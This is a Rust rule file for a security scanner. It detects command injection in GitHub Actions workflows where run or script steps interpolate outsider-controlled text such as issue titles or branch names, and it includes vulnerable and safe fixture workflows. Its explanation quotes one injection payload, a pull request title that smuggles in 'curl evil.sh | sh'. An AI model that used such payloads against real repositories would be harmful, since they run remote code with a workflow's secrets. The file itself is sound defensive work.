//! GHA002: attacker-controlled `${{ github.event... }}` text inside a script.

use super::{block, expressions, is_workflow, lines, value_of};
use crate::lang::Lang::*;
use crate::rules::{fx, CodeRuleMeta};
use crate::unit::Unit;
use airlock_protocol::{Category, Decision, Finding, Severity, Span};

pub static META: CodeRuleMeta = CodeRuleMeta {
    code: "GHA002",
    name: "workflow-expression-injection",
    category: Category::CodeVulnerability,
    severity: Severity::High,
    decision: Decision::Deny,
    langs: &[Yaml],
    summary: "A `run:` script (or `actions/github-script` `script:`) interpolates text an outsider controls: issue and \
              pull request titles and bodies, comments, commit messages, branch names (`github.head_ref`), author names.",
    why: "Expressions are pasted into the script before the shell sees it: a pull request titled \
          `x\"; curl evil.sh | sh; echo \"` runs that command with the workflow's token and secrets.",
    example: "- run: echo \"${{ github.event.issue.title }}\"",
    instead: "Pass the value through an environment variable and quote it: \
              `env: TITLE: ${{ github.event.issue.title }}` then `run: echo \"$TITLE\"`.",
    references: &["CWE-78", "CWE-94"],
    flags: &[
        fx(Yaml, "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n"),
        fx(Yaml, "on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          git checkout ${{ github.head_ref }}\n          make\n"),
    ],
    passes: &[
        fx(Yaml, "on: issues\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo \"$TITLE\"\n"),
        fx(Yaml, "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.sha }} ${{ github.event.pull_request.number }}\n"),
    ],
};

/// Contexts whose text an outsider chooses.
pub(crate) fn tainted(expr: &str) -> bool {
    let e = expr.replace(' ', "");
    if e.contains("github.head_ref") {
        return true;
    }
    let fields = [
        ".title", ".body", ".message", ".head_ref", ".label", ".page_name", ".head_branch", ".default_branch",
        ".email", ".name", ".ref",
    ];
    (e.contains("github.event.") || e.contains("github.event[")) && fields.iter().any(|f| e.contains(f))
        && !e.contains(".base.ref")
}

pub fn check(unit: &Unit<'_>, meta: &CodeRuleMeta, out: &mut Vec<Finding>) {
    if !is_workflow(unit) {
        return;
    }
    let all = lines(unit.text);
    for (i, l) in all.iter().enumerate() {
        let key = if value_of(l.text, "run").is_some() {
            "run"
        } else if value_of(l.text, "script").is_some() {
            "script"
        } else {
            continue;
        };
        for (offset, text) in block(&all, i, key) {
            for (at, expr) in expressions(text) {
                if tainted(expr) {
                    let start = offset + at;
                    let len = text.get(at..).and_then(|t| t.find("}}")).map_or(expr.len() + 6, |e| e + 2);
                    let span = Span::new(start, start + len);
                    out.push(meta.finding(unit, span, format!("the script interpolates `${{{{ {expr} }}}}`, text an outsider controls: command injection")));
                }
            }
        }
    }
}
